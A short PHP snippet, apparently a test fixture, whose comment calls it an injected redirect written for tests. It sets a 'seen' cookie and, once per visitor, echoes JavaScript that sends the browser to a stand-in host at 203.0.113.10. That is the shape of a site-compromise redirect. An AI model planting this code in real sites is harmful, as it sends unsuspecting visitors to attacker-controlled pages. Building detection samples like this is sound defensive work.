<?php
// an injected redirect shown once per visitor (written for the tests, never run)
if (!isset($_COOKIE['seen'])) {
    setcookie('seen', '1', time() + 86400);
    echo '<script type="text/javascript">document.location.href="http://203.0.113.10/in.cgi?2";</script>';
}
